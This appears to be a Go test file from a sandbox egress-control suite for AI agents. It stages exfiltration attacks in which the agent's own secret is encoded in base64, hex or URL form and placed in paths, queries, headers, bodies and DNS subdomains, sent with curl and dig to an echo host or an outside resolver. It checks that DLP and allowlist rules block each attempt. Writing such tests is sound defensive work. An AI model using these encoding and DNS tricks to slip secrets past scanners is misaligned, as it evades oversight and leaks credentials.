package escape

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// encodings of a value an agent might use to slip it past a scanner.
func encodings(v string) map[string]string {
	var pct strings.Builder
	for i := 0; i < len(v); i++ {
		fmt.Fprintf(&pct, "%%%02X", v[i])
	}
	return map[string]string{
		"plain":       v,
		"base64":      base64.StdEncoding.EncodeToString([]byte(v)),
		"base64url":   base64.RawURLEncoding.EncodeToString([]byte(v)),
		"hex":         hex.EncodeToString([]byte(v)),
		"url-encoded": pct.String(),
	}
}

// placements put a value in a request to url in one of four places.
var placements = []struct {
	name string
	args func(url, v string) []string
}{
	{"path", func(u, v string) []string { return []string{u + "/p/" + v} }},
	{"query", func(u, v string) []string { return []string{u + "/q?d=" + v} }},
	{"header", func(u, v string) []string { return []string{"-H", "X-Data: " + v, u + "/h"} }},
	{"body", func(u, v string) []string { return []string{"--data-binary", v, u + "/b"} }},
}

// attackSecretExfil: attack 3, the agent's own secret sent to an allowed
// host that answers (the echo upstream), in every place and encoding, over
// HTTPS (intercepted) and plain HTTP. The same requests with a harmless
// value get through: the block is the secret's doing.
func (b *bottle) attackSecretExfil(t *testing.T) {
	type tc struct {
		name string
		args []string
		leak bool
	}
	var cases []tc
	harmless := "harmless-value-0000000"
	for _, scheme := range []string{"https", "http"} {
		u := scheme + "://" + echoHost
		for _, pl := range placements {
			cases = append(cases, tc{scheme + " control " + pl.name, pl.args(u, harmless), false})
			for enc, v := range encodings(secretValue) {
				cases = append(cases, tc{scheme + " " + enc + " in " + pl.name, pl.args(u, v), true})
			}
		}
	}
	// The auth route host (egress first, then pipelock) and pipelock
	// straight, skipping the first hop.
	cases = append(cases,
		tc{"auth route, secret in query", []string{"https://" + authEchoHost + "/q?d=" + secretValue}, true},
		tc{"pipelock direct, secret in header", []string{"-x", b.pipelock, "-H", "X-Data: " + secretValue, "http://" + echoHost + "/h"}, true},
	)
	calls := make([][]string, len(cases))
	for i, c := range cases {
		calls[i] = c.args
	}
	echo0 := len(b.echoHits(t.Context()))
	res := b.curlMany(t, calls)
	for i, c := range cases {
		r := res[i]
		if !c.leak {
			if r.Code != "200" {
				t.Errorf("%s: the control request failed, so the attacks prove nothing: %s", c.name, r)
			}
			continue
		}
		wantBlocked(t, c.name, r, "dlp.known-secret")
	}
	// Whatever reached the echo must not hold the secret in any form.
	for _, h := range b.echoHits(t.Context())[echo0:] {
		if s := fmt.Sprintf("%s %s %v %s", h.Host, h.URI, h.Headers, h.Body); containsSecret(s, secretValue) {
			t.Errorf("ESCAPE the echo upstream received the secret: %+v", h)
		}
	}

	// Split across two requests, UTF-16, reversed, gzip and the other
	// transforms: attackTransforms.
}

func containsSecret(s, secret string) bool {
	for _, v := range encodings(secret) {
		if strings.Contains(s, v) || strings.Contains(strings.ToLower(s), strings.ToLower(v)) && len(v) > 8 {
			return true
		}
	}
	return false
}

// attackDNSExfil: attack 4, the secret as a DNS name: through the proxy
// (a subdomain), through the embedded resolver, and straight to a resolver
// outside the bottle (the outside listener's port 53).
func (b *bottle) attackDNSExfil(t *testing.T) {
	name := secretValue + "." + offHost
	hexName := hex.EncodeToString([]byte(secretValue)) + "." + echoHost
	b.quiet(t, "secret subdomain via the proxy", func() {
		res := b.curlMany(t, [][]string{
			{"http://" + name + "/"},
			{"http://" + hexName + "/"},
			{"http://" + secretValue + "." + echoHost + "/"},
		})
		for i, r := range res {
			wantBlockedAny(t, fmt.Sprintf("secret subdomain %d", i), r, "dlp.", "allowlist")
		}
		b.wantConnectBlocked(t, b.proxy, name+":443", "dlp.")
	})
	b.quiet(t, "secret name through the embedded resolver", func() {
		out, _, _ := b.run(t, `dig +time=1 +tries=1 "$1" | grep -E 'status:|ANSWER SECTION|timed out' ; RES_OPTIONS="timeout:1 attempts:1" getent hosts "$1"; echo "getent=$?"`, name)
		if strings.Contains(out, "ANSWER SECTION") || !strings.Contains(out, "getent=2") {
			t.Errorf("ESCAPE the embedded resolver answered %s: %q", name, out)
		}
	})
	b.quiet(t, "secret name straight to an outside resolver", func() {
		out, _, _ := b.run(t, `dig +time=1 +tries=1 @"$1" "$2"; dig +tcp +time=2 +tries=1 @"$1" "$2"`, b.outIP, name)
		if strings.Contains(out, "status: ") {
			t.Errorf("ESCAPE dig @%s got an answer: %s", b.outIP, trunc(out))
		}
	})
}

// wantBlockedAny is wantBlocked with any of several rule prefixes.
func wantBlockedAny(t *testing.T, what string, r curlResult, rules ...string) {
	t.Helper()
	if r.Code != "403" || !strings.HasPrefix(r.Body, "blocked: ") {
		t.Errorf("ESCAPE? %s: want a 403 \"blocked: \", got %s", what, r)
		return
	}
	for _, rule := range rules {
		if strings.Contains(r.Body, "(rule: "+rule) {
			return
		}
	}
	t.Errorf("%s: blocked by an unexpected rule (want %v): %s", what, rules, r)
}
